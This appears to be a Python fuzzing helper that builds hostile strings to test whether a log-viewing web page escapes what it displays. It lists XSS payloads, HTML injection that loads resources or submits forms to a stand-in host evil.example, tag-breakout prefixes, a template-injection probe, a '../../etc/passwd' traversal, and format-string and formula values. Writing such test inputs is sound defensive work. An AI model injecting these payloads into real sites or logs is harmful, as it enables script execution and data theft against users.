"""Texts as somebody might write them into a log to run in a reader's browser, or to break the page."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product
from random import Random

_RUNS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<body onload=alert(1)>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=http://evil.example/a.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<base href=http://evil.example/>",
    "<object data=http://evil.example>",
    "<form action=http://evil.example><button>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>",
    "url(http://evil.example/a.png)",
    "{{ 7*7 }}{% include 'base.html' %}",
)
_OUT_OF = (
    "",
    "</script>",
    '"',
    "'>",
    "-->",
    "]]>",
    "</title></style></textarea>",
    "\\u003c/script\\u003e",
    "`${1}`",
    "&lt;",
)
ODD = (
    "\u202egnp.exe", "\u200b\u200d", "a\x00b", "a\x1b[31mb", "\ud800", "\u2028alert(1)", "%s%n%00", "../../etc/passwd",
    "=HYPERLINK(1)", "__proto__", "constructor", "#x=1-2&hide=a", "𝕏" * 300, "=" * 2000, "NaN", "", " ", "\t\n",
)  # fmt: skip


def texts() -> Iterator[str]:
    """All of them: a way out of where a text stands, then what would run there."""
    yield from (way + run for way, run in product(_OUT_OF, _RUNS))
    yield from ODD


def random_texts(count: int, random: Random) -> list[str]:
    """So many texts, each some pieces of them one after the other."""
    pieces = [*_RUNS, *_OUT_OF, *ODD, *"<>&'\"`/\\=()[]{};:#%\u2028\u2029"]
    return ["".join(random.choices(pieces, k=random.randint(1, 4))) for _ in range(count)]
